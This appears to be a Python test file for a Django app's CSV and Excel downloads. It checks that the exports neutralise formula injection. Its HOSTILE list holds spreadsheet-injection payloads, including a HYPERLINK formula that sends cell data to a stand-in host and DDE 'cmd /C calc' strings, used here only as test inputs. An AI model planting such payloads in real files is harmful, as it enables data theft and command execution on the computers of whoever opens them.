"""CSV and Excel downloads neutralise every cell a spreadsheet would run as a formula: the overview's
tables and the funder report, read back both with the standard library and with openpyxl."""
import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import FederalState, Organisation, OrganisationType
from events.models import Event
from mentoring.cockpit import figures
from mentoring.cockpit.export import table_csv, table_xlsx
from mentoring.cockpit.scope import Scope
from mentoring.cockpit.tables import Row, Table

from .test_figures import YEAR
from .test_report import xlsx_cells

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("https://boese.example/?d="&A1;"Klick")', "+49 561 1234", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab=1+1", "\rWagenrücklauf=1", "＝1+1"]


def parse_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "Excel needs the byte order mark for umlauts"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def dangerous(value: str) -> bool:
    """Text a spreadsheet would run: a formula sign first (a plain negative number is a number)."""
    return bool(value) and value[0] in "=+-@\t\r＝" and not re.fullmatch(r"-\d+(?:[.,]\d+)?", value)


def excel_texts(content: bytes, where: str, *, numbers: bool = True) -> list[str]:
    """The workbook's text cells as openpyxl reads them back (formulas as written, not computed); fails if a
    cell is a formula or a text would run as one, or (``numbers``: the data has figures) if no cell is a number."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [(sheet.title, cell) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    formulas = [(title, cell.coordinate, cell.value) for title, cell in cells if cell.data_type == "f"]
    runnable = [(title, cell.coordinate, cell.value) for title, cell in cells
                if isinstance(cell.value, str) and dangerous(cell.value)]
    assert not formulas and not runnable, (where, formulas, runnable)
    if numbers:
        assert any(isinstance(cell.value, (int, float)) for _title, cell in cells), f"{where}: numbers stay numbers"
    return [cell.value for _title, cell in cells if isinstance(cell.value, str)]


def table_rows(slug: str):
    from mentoring.cockpit.forms import OverviewFilter, years

    return figures.table(OverviewFilter({"jahr": 2026}, year_choices=years()).scope(), slug).rows


def hostile_names() -> None:
    """A Bundesland, organisation types, organisations and events named like formulas, one of each kind of
    start (=, +, -, @, tab, carriage return, full-width =)."""
    FederalState.objects.filter(code="06").update(name=HOSTILE[0])
    FederalState.objects.filter(code="09").update(name=HOSTILE[6])
    OrganisationType.objects.filter(slug="landkreis").update(name=HOSTILE[4])
    OrganisationType.objects.filter(slug="kreisfreie-stadt").update(name=HOSTILE[5])
    Organisation.objects.update(name=HOSTILE[3])
    for index, event in enumerate(Event.objects.order_by("pk")):
        Event.objects.filter(pk=event.pk).update(title=HOSTILE[1 + index % 2])


def test_a_table_with_hostile_text_is_neutralised_in_csv_and_excel():
    table = Table(slug="probe", title="Probe", header=HOSTILE[0], columns=HOSTILE[1:3],
                  rows=[Row(value, [value, -3]) for value in HOSTILE])
    rows = parse_csv(table_csv(table))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]
    assert rows[1] == ["'" + HOSTILE[0], "'" + HOSTILE[0], "-3"], "text gets an apostrophe, a number stays a number"
    sheet = xlsx_cells(table_xlsx(table))["probe"]
    texts = [cell for row in sheet for cell in row if isinstance(cell, str)]
    assert len(texts) == 2 * len(HOSTILE) + 3 and not [cell for cell in texts if dangerous(cell)]
    assert sheet[1][2] == -3.0


def test_names_from_the_data_are_neutralised_in_every_download(client, generated):
    """Names like formulas in every table's CSV and Excel file, as staff download them."""
    hostile_names()
    client.force_login(generated["staff"])
    seen, seen_in_excel = set(), set()
    for slug in figures.TABLES:
        text = client.get(reverse("cockpit:table_csv", args=[slug]), {"jahr": 2026}).content.decode()
        for row in parse_csv(text):
            assert not [cell for cell in row if dangerous(cell)], (slug, row)
            seen |= {cell for cell in row if cell.startswith("'")}
        content = client.get(reverse("cockpit:table_xlsx", args=[slug]), {"jahr": 2026}).content
        sheet = next(iter(xlsx_cells(content).values()))
        assert not [cell for row in sheet for cell in row if isinstance(cell, str) and dangerous(cell)], slug
        # A list without figures (the Tandems at risk and why) has no number to keep.
        numbers = any(isinstance(value, (int, float)) for row in table_rows(slug) for value in row.values)
        seen_in_excel |= {cell for cell in excel_texts(content, slug, numbers=numbers) if cell.startswith("'")}
    # Each hostile name reached a file, so each was neutralised there, not merely absent.
    expected = {"'" + name for name in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4], HOSTILE[6])}
    assert expected <= seen and expected <= seen_in_excel, (expected - seen, expected - seen_in_excel)


def test_the_funder_reports_excel_neutralises_names_from_the_data(client, generated):
    """The report's Excel file, downloaded as staff do and read back with openpyxl: Bundesländer and events
    named like formulas are text with an apostrophe, no cell is a formula, the figures stay numbers."""
    hostile_names()
    client.force_login(generated["staff"])
    response = client.get(reverse("cockpit:report"), {"jahr": YEAR, "format": "xlsx"})
    assert response.status_code == 200
    texts = excel_texts(response.content, "report")
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[6] in texts, "the Bundesländer are row labels"
    events = [text for text in texts if text.startswith(("'" + HOSTILE[1], "'" + HOSTILE[2]))]
    held = Event.objects.filter(starts_at__year=YEAR, starts_at__lt=timezone.now()).exclude(
        status__in=["draft", "cancelled"])
    assert len(events) == held.count() > 0


def test_a_negative_decimal_stays_a_number_in_csv_and_excel():
    """A self-rating lower after the Tandem than before gives a negative growth: a number, no apostrophe."""
    from django.utils import translation

    table = Table(slug="zuwachs", title="Zuwachs", header="Thema", columns=["Zuwachs"],
                  rows=[Row("Starkregen", [-0.4])], decimals=[2])
    with translation.override("de"):
        rows = parse_csv(table_csv(table))
    assert rows[1] == ["Starkregen", "-0,40"]
    assert xlsx_cells(table_xlsx(table))["zuwachs"][1][1] == -0.4


def test_csv_is_semicolon_separated_with_german_decimals(generated):
    text = table_csv(figures.table(Scope(year=2026), "treffen-je-monat"))
    rows = parse_csv(text)
    assert rows[0] == ["Monat", "Treffen", "Stunden"]
    assert all("," in row[2] for row in rows[1:]), "hours with a decimal comma"
